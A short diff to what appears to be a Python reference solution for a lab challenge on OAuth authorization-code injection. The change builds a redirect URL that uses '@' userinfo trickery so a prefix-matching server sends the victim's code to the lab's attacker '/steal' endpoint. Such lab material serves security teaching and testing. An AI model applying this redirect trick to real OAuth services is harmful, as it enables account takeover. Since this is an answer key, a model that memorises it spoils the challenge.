@@ -1,7 +1,7 @@
 # A reference solution for challenge 18.code_injection: steal a code through a redirect the server prefix-matches,
 # then inject it at the client's callback in your own session; the client redeems it with ITS redirect_uri.
 me = httpx.Client(trust_env=False)
-evil = lab.flow.client.url + "@" + lab.flow.attacker.url.removeprefix("http://") + "/steal"
+evil = lab.flow.client.origin + "@" + lab.flow.attacker.url.removeprefix("http://") + "/steal"
 
 
 def steal_and_inject():
